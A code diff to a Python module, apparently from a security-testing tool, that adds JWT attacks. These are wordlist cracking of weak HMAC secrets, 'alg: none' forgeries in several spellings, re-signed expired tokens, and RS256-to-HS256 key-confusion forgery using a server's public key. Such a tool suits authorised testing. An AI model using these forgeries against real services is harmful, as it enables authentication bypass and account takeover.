@@ -1,17 +1,23 @@
 """JSON Web Tokens with the standard library only: read, forge, and crack weak HMAC keys offline.
 
-Pure functions. A token is cracked by recomputing its HMAC with each key of a short list of
-well-known weak secrets; nothing is sent to the server for that.
+Pure functions (the wordlist is package data, read once). A token is cracked by recomputing its
+HMAC with each of 75,026 published weak secrets (``data/jwt-secrets.txt.gz``, sources and
+licences in ``data/NOTICE.md``); nothing is sent to the server for that, and it takes well
+under a second (``bench/jwt_crack.py``).
 """
 
 from __future__ import annotations
 
 import base64
 import binascii
+import gzip
 import hashlib
 import hmac
 import json
+import time
 from dataclasses import dataclass
+from functools import cache
+from importlib.resources import files
 
 from assay.domain.json import JsonObject
 
@@ -43,6 +49,17 @@ WEAK_SECRETS: tuple[str, ...] = (
     "changeit",
 )
 _HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
+_DIGEST_NAMES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
+NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")  # libraries that lower-case, or compare exactly
+
+
+@cache
+def wordlist() -> tuple[bytes, ...]:
+    """The built-in weak secrets first, then the published wordlist, as bytes (read once)."""
+    raw = files("assay.agents.analysis.security.attacks").joinpath("data/jwt-secrets.txt.gz").read_bytes()
+    words = gzip.decompress(raw).decode("utf-8").split("\n")
+    seen = dict.fromkeys(w.encode() for w in (*WEAK_SECRETS, *words) if w)
+    return tuple(seen)
 
 
 def b64url_encode(raw: bytes) -> str:
@@ -102,13 +119,25 @@ def encode(header: JsonObject, payload: JsonObject, key: str | None) -> str:
     return f"{signing_input}.{signature}"
 
 
-def crack(token: Jwt, candidates: tuple[str, ...] = WEAK_SECRETS) -> str | None:
-    """The HMAC key among ``candidates`` that reproduces the token's signature, or None."""
-    if token.alg not in _HASHES:
+def crack(token: Jwt, candidates: tuple[str, ...] | None = None) -> str | None:
+    """The HMAC key among ``candidates`` (default: the whole wordlist) that reproduces the signature.
+
+    Compares raw digests (the signature decoded once) with the one-shot C ``hmac.digest``: about
+    75,000 keys in a few tens of milliseconds.
+    """
+    name = _DIGEST_NAMES.get(token.alg)
+    if name is None:
         return None
-    for key in candidates:
-        if hmac.compare_digest(sign(token.alg, token.signing_input, key), token.signature):
-            return key
+    try:
+        expected = b64url_decode(token.signature)
+    except (ValueError, binascii.Error):
+        return None
+    keys = wordlist() if candidates is None else tuple(c.encode() for c in candidates)
+    message = token.signing_input.encode()
+    digest = hmac.digest
+    for key in keys:
+        if digest(key, message, name) == expected:
+            return key.decode()
     return None
 
 
@@ -117,9 +146,23 @@ def tampered_payload(token: Jwt) -> JsonObject:
     return {**token.payload, "assay_tampered": True}
 
 
-def alg_none(token: Jwt) -> str:
-    """The same claims, ``alg: none`` and no signature."""
-    return encode({**token.header, "alg": "none"}, tampered_payload(token), None)
+def alg_none(token: Jwt, spelling: str = "none") -> str:
+    """The same claims, ``alg: none`` (or another spelling of it) and no signature."""
+    return encode({**token.header, "alg": spelling}, tampered_payload(token), None)
+
+
+def expired(token: Jwt, key: str, now: float | None = None) -> str:
+    """The genuine claims, expired an hour ago, signed with ``key``: only an expiry check refuses it."""
+    moment = int(now if now is not None else time.time())
+    return encode(token.header, {**token.payload, "iat": moment - 7200, "exp": moment - 3600}, key)
+
+
+def hmac_with_public_key(token: Jwt, public_key: bytes) -> str:
+    """Key confusion: changed claims as HS256, the HMAC key being the server's RSA/EC public key bytes."""
+    header = {**token.header, "alg": "HS256"}
+    signing_input = f"{_part(header)}.{_part(tampered_payload(token))}"
+    mac = hmac.new(public_key, signing_input.encode(), hashlib.sha256).digest()
+    return f"{signing_input}.{b64url_encode(mac)}"
 
 
 def old_signature(token: Jwt) -> str:
